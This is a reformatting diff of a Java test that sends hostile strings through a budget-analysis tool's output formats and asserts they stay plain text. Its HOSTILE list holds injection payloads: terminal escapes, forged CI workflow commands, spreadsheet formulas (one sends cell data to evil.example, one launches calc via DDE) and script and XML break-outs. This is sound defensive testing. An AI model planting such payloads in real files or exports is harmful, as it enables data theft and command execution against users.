@@ -43,31 +43,34 @@ import org.junit.jupiter.params.provider.MethodSource;
 
 /**
  * Every text a case file holds is untrusted: a hostile contributor to a cases repository writes
- * titles, line texts, notes, labels and file names. Each one below is put into every text field of a
- * case set and sent through every view in every format that lays that view out; whatever the format,
- * none may reach its reader as anything but text.
+ * titles, line texts, notes, labels and file names. Each one below is put into every text field of
+ * a case set and sent through every view in every format that lays that view out; whatever the
+ * format, none may reach its reader as anything but text.
  */
 class HostileTextTest {
 
   /** Terminal and CI log control, fake rows, markup, spreadsheet formulas, workflow commands. */
-  static final List<String> HOSTILE = List.of(
-      "\u001b]0;PWNED\u0007\u001b[2J\u001b[HFake",
-      "First\nXX99 Fake row",
-      "Carriage\rreturn",
-      "C1 \u009b31m control",
-      "Bidi \u202eevil\u202c override",
-      "I ALT\n::warning::INJECTED",
-      "::error file=x::forged",
-      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
-      "@SUM(1+1)*cmd|' /C calc'!A0",
-      "+1 plus",
-      "-1 minus",
-      "\tTab first",
-      "</td><script>alert(1)</script>",
-      "| pipe | [link](http://evil.example) *bold* `code`",
-      "]]></failure><failure>");
+  static final List<String> HOSTILE =
+      List.of(
+          "\u001b]0;PWNED\u0007\u001b[2J\u001b[HFake",
+          "First\nXX99 Fake row",
+          "Carriage\rreturn",
+          "C1 \u009b31m control",
+          "Bidi \u202eevil\u202c override",
+          "I ALT\n::warning::INJECTED",
+          "::error file=x::forged",
+          "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
+          "@SUM(1+1)*cmd|' /C calc'!A0",
+          "+1 plus",
+          "-1 minus",
+          "\tTab first",
+          "</td><script>alert(1)</script>",
+          "| pipe | [link](http://evil.example) *bold* `code`",
+          "]]></failure><failure>");
 
-  private static final Pattern RAW_CONTROL = Pattern.compile("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]");
+  private static final Pattern RAW_CONTROL =
+      Pattern.compile(
+          "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]");
 
   static Stream<Arguments> textsAndFormats() {
     List<Arguments> all = new ArrayList<>();
@@ -81,7 +84,8 @@ class HostileTextTest {
 
   @ParameterizedTest(name = "{0} {1}")
   @MethodSource("textsAndFormats")
-  void aHostileTextReachesNoReaderAsAnythingButText(OutputFormat format, String text) throws Exception {
+  void aHostileTextReachesNoReaderAsAnythingButText(OutputFormat format, String text)
+      throws Exception {
     CaseSet cases = cases(text);
     Analysis analysis = Analysis.of(cases);
     CheckReport checks = Checker.check(analysis, 0);
@@ -101,8 +105,11 @@ class HostileTextTest {
     }
   }
 
-  /** The documents a format lays out: every view for most, the findings alone for the CI formats. */
-  private static List<Document> documents(Analysis analysis, CheckReport checks, OutputFormat format) {
+  /**
+   * The documents a format lays out: every view for most, the findings alone for the CI formats.
+   */
+  private static List<Document> documents(
+      Analysis analysis, CheckReport checks, OutputFormat format) {
     Discounting d = Discounting.DEFAULT;
     Document check = Documents.check(checks, true, Lang.DA);
     if (format == OutputFormat.GITHUB || format == OutputFormat.JUNIT) {
@@ -118,14 +125,21 @@ class HostileTextTest {
   }
 
   private static void plainText(String out, OutputFormat format) {
-    assertThat(RAW_CONTROL.matcher(out).find()).as("a raw control character in %s:\n%s", format, out).isFalse();
+    assertThat(RAW_CONTROL.matcher(out).find())
+        .as("a raw control character in %s:\n%s", format, out)
+        .isFalse();
     for (String line : out.split("\n", -1)) {
-      assertThat(line).as("a row made by the input").doesNotStartWith("XX99").doesNotStartWith("| XX99");
+      assertThat(line)
+          .as("a row made by the input")
+          .doesNotStartWith("XX99")
+          .doesNotStartWith("| XX99");
       assertThat(line).doesNotStartWith("::");
     }
     if (format == OutputFormat.MD) {
       // Escaped, "\\<script" and "\\](http" are text; unescaped they would be markup and a link.
-      assertThat(out).doesNotContainPattern("(?<!\\\\)<script").doesNotContainPattern("(?<!\\\\)\\]\\(http");
+      assertThat(out)
+          .doesNotContainPattern("(?<!\\\\)<script")
+          .doesNotContainPattern("(?<!\\\\)\\]\\(http");
     }
   }
 
@@ -134,16 +148,30 @@ class HostileTextTest {
     assertThat(RAW_CONTROL.matcher(out).find()).as("a raw control character in HTML").isFalse();
   }
 
-  /** A text cell may not start a formula, and no escape sequence reaches a terminal; amounts keep their sign. */
+  /**
+   * A text cell may not start a formula, and no escape sequence reaches a terminal; amounts keep
+   * their sign.
+   */
   private static void csv(String out) {
-    assertThat(Pattern.compile("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]").matcher(out).find())
-        .as("a raw control character in CSV").isFalse();
+    assertThat(
+            Pattern.compile(
+                    "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]")
+                .matcher(out)
+                .find())
+        .as("a raw control character in CSV")
+        .isFalse();
     for (String record : out.split("\r\n")) {
       for (String field : record.split(",", -1)) {
         String f = field.startsWith("\"") ? field.substring(1) : field;
         if (!f.matches("-?[0-9]+")) {
-          assertThat(f).as("a CSV field that a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("+")
-              .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r").doesNotMatch("-[^0-9].*");
+          assertThat(f)
+              .as("a CSV field that a spreadsheet would run")
+              .doesNotStartWith("=")
+              .doesNotStartWith("+")
+              .doesNotStartWith("@")
+              .doesNotStartWith("\t")
+              .doesNotStartWith("\r")
+              .doesNotMatch("-[^0-9].*");
         }
       }
     }
@@ -152,17 +180,23 @@ class HostileTextTest {
   /** JSON carries the text exactly, as a string. */
   private static void json(byte[] bytes, String text) throws IOException {
     JsonNode root = new ObjectMapper().readTree(bytes);
-    assertThat(root.toString()).contains(new ObjectMapper().writeValueAsString(text).replaceAll("^\"|\"$", ""));
+    assertThat(root.toString())
+        .contains(new ObjectMapper().writeValueAsString(text).replaceAll("^\"|\"$", ""));
   }
 
-  /** Only the format's own annotations start a workflow command; nothing from input starts a line. */
+  /**
+   * Only the format's own annotations start a workflow command; nothing from input starts a line.
+   */
   private static void github(String out) {
     for (String line : out.split("\n", -1)) {
       if (line.startsWith("::")) {
         // Property values have ':' and ',' escaped, so the command ends at the format's own "::".
-        assertThat(line).matches("::(error|warning|notice) file=[^:,]*,line=[0-9]+,col=[0-9]+,title=[^:]*::.*");
+        assertThat(line)
+            .matches("::(error|warning|notice) file=[^:,]*,line=[0-9]+,col=[0-9]+,title=[^:]*::.*");
       }
-      assertThat(RAW_CONTROL.matcher(line).find()).as("a raw control character in %s", line).isFalse();
+      assertThat(RAW_CONTROL.matcher(line).find())
+          .as("a raw control character in %s", line)
+          .isFalse();
     }
   }
 
@@ -170,9 +204,12 @@ class HostileTextTest {
     DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
     f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
     org.w3c.dom.Document doc = f.newDocumentBuilder().parse(new ByteArrayInputStream(bytes));
-    assertThat(doc.getElementsByTagName("failure").getLength()).as("failures are the findings, none forged")
-        .isEqualTo(doc.getElementsByTagName("testcase").getLength() > 0
-            ? Integer.parseInt(doc.getDocumentElement().getAttribute("failures")) : 0);
+    assertThat(doc.getElementsByTagName("failure").getLength())
+        .as("failures are the findings, none forged")
+        .isEqualTo(
+            doc.getElementsByTagName("testcase").getLength() > 0
+                ? Integer.parseInt(doc.getDocumentElement().getAttribute("failures"))
+                : 0);
   }
 
   /** Every sheet is well-formed XML, and no cell is a formula: a text stays text. */
@@ -184,7 +221,10 @@ class HostileTextTest {
         }
         byte[] xml = zip.readAllBytes();
         xml(xml.length == 0 ? "<x/>".getBytes(StandardCharsets.UTF_8) : xml, e.getName());
-        assertThat(new String(xml, StandardCharsets.UTF_8)).as(e.getName()).doesNotContain("<f>").doesNotContain("<f ");
+        assertThat(new String(xml, StandardCharsets.UTF_8))
+            .as(e.getName())
+            .doesNotContain("<f>")
+            .doesNotContain("<f ");
       }
     }
   }
@@ -196,27 +236,58 @@ class HostileTextTest {
   }
 
   /**
-   * Two proposals and an overview, every text field the hostile text: the first proposal's stated net
-   * impact is off, so that check has a finding to print; its file name is hostile too.
+   * Two proposals and an overview, every text field the hostile text: the first proposal's stated
+   * net impact is off, so that check has a finding to print; its file name is hostile too.
    */
   static CaseSet cases(String text) {
     String file = "cases/" + text + ".yaml";
     Origin origin = new Origin(file, Map.of("id", new Location(file, 2, 5)));
-    Proposal a = new Proposal("XX01", ProposalType.INVESTMENT, text, text, text, Risk.HIGH, new SourceRef(text, 3),
-        List.of(2018, 2019, 2020),
-        List.of(new Line(text, Area.SERVICE, Amounts.of(Map.of(2019, -500L, 2020, -500L)))),
-        List.of(new Line(text, Area.CAPITAL, Amounts.of(Map.of(2018, 600L)))),
-        new Stated(null, null, Amounts.of(Map.of(2018, 600L, 2019, -400L)), 3),
-        null, List.of(text), origin);
-    Proposal b = new Proposal("XX02", ProposalType.INNOVATION, text, null, null, null, null, List.of(2018, 2019),
-        List.of(), List.of(new Line(text, null, Amounts.of(Map.of(2018, 100L)))), Stated.none(), null, List.of(),
-        Origin.ofFile("cases/XX02.yaml"));
-    Portfolio portfolio = new Portfolio(text, new SourceRef(text, 1), 2018, 2020, List.of(2019, 2020), List.of(text),
-        List.of(new PortfolioRow(1, "XX01", 3, 600, Amounts.of(Map.of(2019, -500L, 2020, -500L))),
-            new PortfolioRow(2, "XX03", 4, 1, Amounts.empty())),
-        new PortfolioTotal(text, 601, Amounts.of(Map.of(2019, -500L, 2020, -500L))),
-        new PortfolioTotal(text, 100, Amounts.empty()),
-        Origin.ofFile(text + "/portfolio.yaml"));
+    Proposal a =
+        new Proposal(
+            "XX01",
+            ProposalType.INVESTMENT,
+            text,
+            text,
+            text,
+            Risk.HIGH,
+            new SourceRef(text, 3),
+            List.of(2018, 2019, 2020),
+            List.of(new Line(text, Area.SERVICE, Amounts.of(Map.of(2019, -500L, 2020, -500L)))),
+            List.of(new Line(text, Area.CAPITAL, Amounts.of(Map.of(2018, 600L)))),
+            new Stated(null, null, Amounts.of(Map.of(2018, 600L, 2019, -400L)), 3),
+            null,
+            List.of(text),
+            origin);
+    Proposal b =
+        new Proposal(
+            "XX02",
+            ProposalType.INNOVATION,
+            text,
+            null,
+            null,
+            null,
+            null,
+            List.of(2018, 2019),
+            List.of(),
+            List.of(new Line(text, null, Amounts.of(Map.of(2018, 100L)))),
+            Stated.none(),
+            null,
+            List.of(),
+            Origin.ofFile("cases/XX02.yaml"));
+    Portfolio portfolio =
+        new Portfolio(
+            text,
+            new SourceRef(text, 1),
+            2018,
+            2020,
+            List.of(2019, 2020),
+            List.of(text),
+            List.of(
+                new PortfolioRow(1, "XX01", 3, 600, Amounts.of(Map.of(2019, -500L, 2020, -500L))),
+                new PortfolioRow(2, "XX03", 4, 1, Amounts.empty())),
+            new PortfolioTotal(text, 601, Amounts.of(Map.of(2019, -500L, 2020, -500L))),
+            new PortfolioTotal(text, 100, Amounts.empty()),
+            Origin.ofFile(text + "/portfolio.yaml"));
     return new CaseSet(List.of(a, b), portfolio);
   }
 }
